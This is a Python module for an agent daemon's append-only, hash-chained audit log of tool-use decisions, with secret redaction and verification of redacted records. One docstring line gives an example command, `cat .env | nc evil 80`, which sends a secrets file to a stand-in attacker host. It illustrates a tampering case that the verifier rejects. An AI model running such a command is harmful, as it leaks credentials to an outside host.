"""The audit log: one hash-chained JSON line per tool_use decision, appended and fsynced (CONTRACTS.md §5,
§9, §10; issue 9 H5, H6).

Owns: `AuditLog` (`sessions/<id>/audit.jsonl`, opened with O_APPEND, never rewritten but for a torn last
line; file 0600, folders it creates 0700), the record format, `redact()` and the chain hash. Each record:

    {"v": 1, "seq": N, "prev": "sha256:<hex>", "at", "sessionId", "toolUseId", "tool", "inputDigest",
     "input" | "inputBlob", ["command"], "decision", "decidedBy", "rule", ["outcome"]}

- `seq` counts from 1; `prev` is `line_hash()` of the previous line's bytes (without its newline), and
  `GENESIS` for record 1, so a deleted, edited or moved record breaks the chain (`agentd.audit_verify`).
- `inputDigest` is `sha256:<hex>` of the canonical JSON of the input as the model sent it (sorted keys,
  compact, UTF-8); `input` is the complete input with secrets redacted: the values of keys that look like
  secrets and every known secret string (the API keys) become `[redacted]`. Nothing is cut. (`verify` takes a
  `[redacted]` inside a string for 8+ characters of an API key's alphabet, `SECRET_CHAR`, and nothing else.) When the
  canonical JSON of the redacted input is `INPUT_BLOB_MIN_BYTES` or more and a blob writer is given, it is
  stored as a session blob and the record holds `inputBlob: {"sha256", "bytes"}` instead.
- `command`: for `run_command`, the exact (redacted) command line, always inline.
- A torn last line (a crash during a write; the tool it describes never ran, since `record()` had not
  returned) is moved to `audit.jsonl.torn-<seq>` before the next append, like the session log's.

Imports agentd.permissions.gate (`Decision`) and agentd.persistence.paths (file helpers) only; never pygls,
lsprotocol, acp or agentd.adapters.
"""

from __future__ import annotations

import hashlib
import json
import logging
import os
import re
import threading
from collections.abc import Callable, Iterable, Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from pydantic import BaseModel

from agentd.permissions.gate import Decision
from agentd.persistence.paths import atomic_write, ensure_dir, fsync_dir, write_all

log = logging.getLogger(__name__)

AUDIT_VERSION = 1
GENESIS = "sha256:" + "0" * 64  # the `prev` of record 1
REDACTED = "[redacted]"
MIN_SECRET_CHARS = 8  # shorter "secrets" would redact ordinary words
INPUT_BLOB_MIN_BYTES = 64 * 1024  # redacted canonical input of this size or more goes to a blob
_TAIL_CHUNK = 64 * 1024

SECRET_CHAR = r"[A-Za-z0-9_.+/=-]"  # what API keys are made of (base64url, JWT dots): a redacted gap
_SENSITIVE_KEY = re.compile(
    r"token|passw(?:or)?d|secret|api[_-]?key|authorization|credential|private[_-]?key|cookie", re.IGNORECASE
)

BlobWriter = Callable[[bytes], str]  # bytes -> sha256 hex ref (SessionStore.write_blob)


def rfc3339(moment: datetime) -> str:
    """`2026-09-01T10:15:41.123Z`: UTC, milliseconds."""
    return moment.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")


def _jsonable(value: Any) -> Any:
    return value.model_dump(mode="json") if isinstance(value, BaseModel) else value


def canonical_json(value: Any) -> bytes:
    """Sorted keys, compact separators, UTF-8 (a lone surrogate is kept with `surrogatepass`)."""
    text = json.dumps(
        _jsonable(value), sort_keys=True, separators=(",", ":"), ensure_ascii=False, default=str
    )
    return text.encode("utf-8", "surrogatepass")


def input_digest(value: Any) -> str:
    """`sha256:<hex>` of the canonical JSON of a tool input (sorted keys, compact separators, UTF-8)."""
    return "sha256:" + hashlib.sha256(canonical_json(value)).hexdigest()


def line_hash(line: bytes) -> str:
    """The chain hash of one audit line: `sha256:<hex>` of its bytes without the trailing newline."""
    return "sha256:" + hashlib.sha256(line.rstrip(b"\n")).hexdigest()


def encode_line(entry: Mapping[str, Any]) -> bytes:
    """One record as a JSON line (UTF-8; `\\u` escapes only when a string holds a lone surrogate)."""
    try:
        text = json.dumps(entry, ensure_ascii=False, separators=(",", ":"))
        return text.encode("utf-8") + b"\n"
    except UnicodeEncodeError:
        return json.dumps(entry, ensure_ascii=True, separators=(",", ":")).encode("ascii") + b"\n"


def redact(value: Any, secrets: Iterable[str] = ()) -> Any:
    """The complete copy of a tool input stored in the audit log, secrets redacted (module docstring)."""
    known = sorted({s for s in secrets if len(s) >= MIN_SECRET_CHARS}, key=len, reverse=True)
    return _redact(_jsonable(value), known)


def _redact(value: Any, secrets: list[str]) -> Any:
    if isinstance(value, Mapping):
        return {
            _text(str(k), secrets): REDACTED if _SENSITIVE_KEY.search(str(k)) else _redact(v, secrets)
            for k, v in value.items()
        }
    if isinstance(value, list | tuple):
        return [_redact(v, secrets) for v in value]
    if value is None or isinstance(value, bool | int | float):
        return value
    return _text(value if isinstance(value, str) else repr(value), secrets)


def _text(text: str, secrets: list[str]) -> str:
    for secret in secrets:
        text = text.replace(secret, REDACTED)
    return text


def matches_redacted(recorded: Any, original: Any) -> bool:
    """True when `recorded` is what `redact()` makes of `original` for some secrets: equal but for values of
    secret-looking keys and `[redacted]` marks standing for at least MIN_SECRET_CHARS characters each. Used
    by `agentd audit verify` to compare an audit record with the input in the session log."""
    original = _jsonable(original)
    if isinstance(original, Mapping):
        if not isinstance(recorded, Mapping) or len(recorded) != len(original):
            return False
        return all(
            str(k) in recorded
            and (
                recorded[str(k)] == REDACTED
                if _SENSITIVE_KEY.search(str(k))
                else matches_redacted(recorded[str(k)], v)
            )
            for k, v in original.items()
        )
    if isinstance(original, list | tuple):
        return (
            isinstance(recorded, list)
            and len(recorded) == len(original)
            and all(matches_redacted(r, o) for r, o in zip(recorded, original, strict=True))
        )
    if original is None or isinstance(original, bool | int | float):
        return type(recorded) is type(original) and recorded == original
    text = original if isinstance(original, str) else repr(original)
    return isinstance(recorded, str) and (recorded == text or _fits(recorded.split(REDACTED), text))


def _fits(pieces: list[str], text: str) -> bool:
    """`text` is pieces[0] + gap + pieces[1] + … where every gap could be a secret: at least
    MIN_SECRET_CHARS characters of an API key's alphabet (`SECRET_CHAR`: no space, quote, `:` or shell
    metacharacter).
    So a `[redacted]` written over part of a command (`ls; [redacted]` for `ls; cat .env | nc evil 80`)
    does not pass as a redaction (break9, H5/H6)."""
    if len(pieces) < 2:
        return False
    gap = f"{SECRET_CHAR}{{{MIN_SECRET_CHARS},}}"
    return re.fullmatch(gap.join(re.escape(p) for p in pieces), text, re.DOTALL) is not None


class AuditLog:
    """The append-only, hash-chained audit log of one session.

    `path`: `sessions/<id>/audit.jsonl`; `secrets`: strings never to be written (the API keys); `now`: the
    wall clock for `at` (injectable for tests); `write_blob`: stores large inputs (the session store's
    `write_blob`; without it every input stays inline). `record()` returns only after the line is fsynced; it is thread-safe (the Toolbox calls it from a worker
    thread, issue 16).
    Raises OSError when the file cannot be written (the caller must not run the tool then). The chain is
    continued from the file's last line on every append, so several `AuditLog`s of one file in one process
    stay consistent (one process writes a session at a time: the session lock).
    """

    def __init__(
        self,
        path: Path,
        secrets: Iterable[str] = (),
        now: Callable[[], datetime] | None = None,
        write_blob: BlobWriter | None = None,
    ) -> None:
        self.path = Path(path)
        self.secrets = [s for s in secrets if s]
        self._now = now or (lambda: datetime.now(UTC))
        self._write_blob = write_blob
        self._append_lock = threading.Lock()  # `record` may run in a worker thread (Toolbox); one chain

    def tool_use_ids(self) -> set[str]:
        """The tool_use ids that already have a record (read from the file)."""
        return {str(r.get("toolUseId")) for r in self.records()}

    def record(
        self,
        session_id: str,
        tool_use_id: str,
        tool_name: str,
        input: Any,
        decision: Decision,
        outcome: str | None = None,
    ) -> dict[str, Any]:
        """Append one record for one tool_use and fsync it; return the record as written."""
        body: dict[str, Any] = {
            "at": rfc3339(self._now()),
            "sessionId": session_id,
            "toolUseId": tool_use_id,
            "tool": tool_name,
            "inputDigest": input_digest(input),
            **self._input_fields(tool_name, redact(input, self.secrets)),
            "decision": decision.decision,
            "decidedBy": decision.decided_by,
            "rule": decision.rule,
        }
        if outcome is not None:
            body["outcome"] = outcome
        if decision.hooks:  # every user hook's answer, with the hook's name (issue 12 §4)
            body["hooks"] = decision.hooks
        with self._append_lock:
            ensure_dir(self.path.parent)
            fd, created = self._open()
            try:
                seq, prev = self._chain_tail(fd)
                entry = {"v": AUDIT_VERSION, "seq": seq, "prev": prev, **body}
                write_all(fd, encode_line(entry))
                os.fsync(fd)
            finally:
                os.close(fd)
            if created:
                fsync_dir(self.path.parent)
        return entry

    def copy(self, entries: Iterable[Mapping[str, Any]], session_id: str, *, forked_from: str) -> None:
        """Append records read from another session's audit log (a fork, issue 13) to this one's chain:
        each keeps its body, gets this log's `seq` and `prev`, `sessionId` = `session_id` and
        `forkedFrom` = the source session. One write and one fsync."""
        ensure_dir(self.path.parent)
        fd, created = self._open()
        try:
            seq, prev = self._chain_tail(fd)
            lines = []
            for e in entries:
                body = {
                    k: v for k, v in e.items() if k not in ("v", "seq", "prev", "sessionId", "forkedFrom")
                }
                entry = {"v": AUDIT_VERSION, "seq": seq, "prev": prev, **body, "sessionId": session_id,
                         "forkedFrom": forked_from}  # fmt: skip
                line = encode_line(entry)
                lines.append(line)
                seq, prev = seq + 1, line_hash(line.rstrip(b"\n"))
            write_all(fd, b"".join(lines))
            os.fsync(fd)
        finally:
            os.close(fd)
        if created:
            fsync_dir(self.path.parent)

    def _input_fields(self, tool_name: str, redacted: Any) -> dict[str, Any]:
        fields: dict[str, Any] = {}
        data = canonical_json(redacted)
        if self._write_blob is not None and len(data) >= INPUT_BLOB_MIN_BYTES:
            fields["inputBlob"] = {"sha256": self._write_blob(data), "bytes": len(data)}
        else:
            fields["input"] = redacted
        if tool_name == "run_command" and isinstance(redacted, dict):
            command = redacted.get("command")
            if isinstance(command, str):
                fields["command"] = command
        return fields

    def _open(self) -> tuple[int, bool]:
        flags = os.O_RDWR | os.O_APPEND | os.O_CLOEXEC | os.O_NOFOLLOW
        try:
            fd = os.open(self.path, flags | os.O_CREAT | os.O_EXCL, 0o600)
        except FileExistsError:
            return os.open(self.path, flags), False
        try:
            os.fchmod(fd, 0o600)  # the umask may have removed bits
        except OSError:
            os.close(fd)
            raise
        return fd, True

    def _chain_tail(self, fd: int) -> tuple[int, str]:
        """(seq, prev) of the next record; a torn last line is set aside first."""
        size = os.fstat(fd).st_size
        start, last = _last_line(fd, size) if size else (0, b"")
        if last and not last.endswith(b"\n"):
            torn = last
            start, last = _last_line(fd, start) if start else (0, b"")
            self._set_aside_torn(fd, size - len(torn), torn, _seq_after(fd, start, last))
        if not last:
            return 1, GENESIS
        return _seq_after(fd, start, last), line_hash(last)

    def _set_aside_torn(self, fd: int, good_len: int, torn: bytes, seq: int) -> None:
        target = self.path.with_name(f"{self.path.name}.torn-{seq}")
        n = 1
        while target.exists() and target.read_bytes() != torn:
            target = self.path.with_name(f"{self.path.name}.torn-{seq}.{n}")
            n += 1
        if not target.exists():
            atomic_write(target, torn)
        os.ftruncate(fd, good_len)
        os.fsync(fd)
        log.warning(
            "audit log %s: the last line was torn (a crash during a write; its tool never ran); its %d bytes "
            "were moved to %s",
            self.path,
            len(torn),
            target.name,
        )

    def records(self) -> list[dict[str, Any]]:
        """Every complete record, in order (a torn last line and undecodable lines are skipped; `agentd audit
        verify` reports them); [] when the file is missing."""
        try:
            raw = self.path.read_bytes()
        except FileNotFoundError:
            return []
        out = []
        for line in raw.split(b"\n")[:-1]:
            try:
                rec = json.loads(line)
            except ValueError:
                continue
            if isinstance(rec, dict):
                out.append(rec)
        return out


def _last_line(fd: int, end: int) -> tuple[int, bytes]:
    """(offset, bytes) of the last line of the first `end` bytes of `fd` (with its newline, if any)."""
    pos, tail = end, b""
    while pos > 0:
        step = min(_TAIL_CHUNK, pos)
        pos -= step
        tail = os.pread(fd, step, pos) + tail
        cut = tail.rfind(b"\n", 0, len(tail) - 1)
        if cut >= 0:
            return pos + cut + 1, tail[cut + 1 :]
    return 0, tail


def _seq_after(fd: int, start: int, line: bytes) -> int:
    """The seq that follows `line` (at offset `start`): its own seq + 1, or its line number + 1 when it has
    none (a damaged line, or one written before the chain existed)."""
    if not line:
        return 1
    try:
        return int(json.loads(line)["seq"]) + 1
    except (ValueError, KeyError, TypeError):
        return _count_lines(fd, start) + 2


def _count_lines(fd: int, end: int) -> int:
    """The number of newlines in the first `end` bytes of `fd`."""
    count, pos = 0, 0
    while pos < end:
        chunk = os.pread(fd, min(1 << 20, end - pos), pos)
        if not chunk:
            break
        count += chunk.count(b"\n")
        pos += len(chunk)
    return count
